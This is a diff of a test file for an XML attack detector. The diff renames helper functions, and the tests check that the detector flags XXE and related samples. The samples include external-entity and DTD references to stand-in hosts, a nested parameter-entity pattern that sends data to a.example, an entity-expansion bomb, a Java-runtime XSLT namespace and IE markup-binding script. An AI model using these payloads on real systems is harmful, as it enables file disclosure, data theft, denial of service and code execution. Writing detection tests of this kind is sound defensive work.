@@ -1,6 +1,6 @@
 import { describe, expect, test } from "bun:test";
 import { xmlAnalyzer } from "../../../src/detect/analyzers/xml.ts";
-import { HUGE, junk, leaf, rules, spansValid, strongest } from "./protocols-helpers.ts";
+import { HUGE, leaf, maxStrength, rules, spansValid, wideJunk } from "./helpers.ts";
 
 const doctype = (text: string) => leaf(text, { kind: "xml-doctype", location: "body", path: "body.xml.doctype", name: "" });
 
@@ -17,19 +17,19 @@ describe("xml analyzer (XXE)", () => {
     expect(rules(xmlAnalyzer, doctype(`<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B" "http://198.51.100.2/e">]>`))).toContain("xml.external-entity");
     expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;]>`))).toContain("xml.parameter-entity");
     // A parameter entity whose value is more DTD: the nested declaration is smuggled inside it.
-    expect(strongest(xmlAnalyzer, leaf(`<!ENTITY % wrap "<!ENTITY &#37; send SYSTEM 'http://a.example/?%data;'>">`))).toBeGreaterThanOrEqual(0.8);
+    expect(maxStrength(xmlAnalyzer, leaf(`<!ENTITY % wrap "<!ENTITY &#37; send SYSTEM 'http://a.example/?%data;'>">`))).toBeGreaterThanOrEqual(0.8);
   });
 
   test("an expansion bomb is strong; one internal entity is only a weak probe", () => {
     const levels = Array.from({ length: 5 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(8)}">`).join("");
     expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE b [<!ENTITY l0 "ha">${levels}]><b>&l5;</b>`))).toContain("xml.entity-expansion");
-    const one = strongest(xmlAnalyzer, leaf(`<!DOCTYPE note [<!ENTITY who "World">]><note>Hello &who;</note>`));
+    const one = maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE note [<!ENTITY who "World">]><note>Hello &who;</note>`));
     expect(one).toBeGreaterThan(0);
     expect(one).toBeLessThan(0.8);
   });
 
   test("an external DTD counts unless it is a standard public one", () => {
-    expect(strongest(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd"><r/>`))).toBeGreaterThanOrEqual(0.8);
+    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd"><r/>`))).toBeGreaterThanOrEqual(0.8);
     const xhtml = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>`;
     expect(xmlAnalyzer.analyze(leaf(xhtml))).toEqual([]);
     expect(xmlAnalyzer.analyze(leaf("<!doctype html><p>hi</p>"))).toEqual([]);
@@ -46,7 +46,7 @@ describe("xml analyzer (XXE)", () => {
     const php = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"/></xsl:stylesheet>`;
     expect(rules(xmlAnalyzer, leaf(php))).toEqual(["xml.xslt-runtime"]);
     const java = `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>`;
-    expect(strongest(xmlAnalyzer, leaf(java))).toBe(0.85);
+    expect(maxStrength(xmlAnalyzer, leaf(java))).toBe(0.85);
     // A stylesheet without one, and a PHP namespace outside XSLT, are not this.
     expect(xmlAnalyzer.analyze(leaf(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b/></xsl:template></xsl:stylesheet>`))).toEqual([]);
     expect(xmlAnalyzer.analyze(leaf(`<doc xmlns:php="http://php.net/xsl"/>`))).toEqual([]);
@@ -65,9 +65,9 @@ describe("xml analyzer (XXE)", () => {
     const cdata = "<![CDATA[<script>var n=0;</script>]]>";
     expect(xmlAnalyzer.analyze(leaf(cdata)).map((f) => [f.class, f.rule, f.strength])).toEqual([["xss", "xml.cdata-script", 0.7]]);
     // An XML body (a CMS posting a page) may carry one: weak there.
-    expect(strongest(xmlAnalyzer, leaf(`<post>${cdata}</post>`, { location: "body", path: "body.xml.post", name: "post" }))).toBeLessThan(0.5);
+    expect(maxStrength(xmlAnalyzer, leaf(`<post>${cdata}</post>`, { location: "body", path: "body.xml.post", name: "post" }))).toBeLessThan(0.5);
     for (const text of [`<HTML xmlns:x><?import namespace="x" implementation="http://evil.example/x.htc">`, `<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, `<span datasrc="#d" dataformatas='html'>`]) {
-      expect([text, rules(xmlAnalyzer, leaf(text)), strongest(xmlAnalyzer, leaf(text))]).toEqual([text, ["xml.ie-markup-binding"], 0.8]);
+      expect([text, rules(xmlAnalyzer, leaf(text)), maxStrength(xmlAnalyzer, leaf(text))]).toEqual([text, ["xml.ie-markup-binding"], 0.8]);
     }
     for (const text of ["<![CDATA[<p>hello</p>]]>", "<![CDATA[<scripture>]]>", `<?xml-stylesheet href="a.xsl"?><x/>`, `<span dataformatas="text">`, "<import implementation=\"x\"/>"]) {
       expect([text, xmlAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
@@ -88,7 +88,7 @@ describe("xml analyzer (XXE)", () => {
     expect(found[0]!.start).toBe(padded.indexOf("<!ENTITY"));
     // Declarations whose literals run into each other: each read once, one weak finding.
     expect(rules(xmlAnalyzer, leaf(`<!ENTITY a "`.repeat(50_000)))).toEqual(["xml.internal-entity"]);
-    const j = junk();
+    const j = wideJunk();
     expect(spansValid(xmlAnalyzer.analyze(leaf(j)), j)).toBe(true);
   });
 });
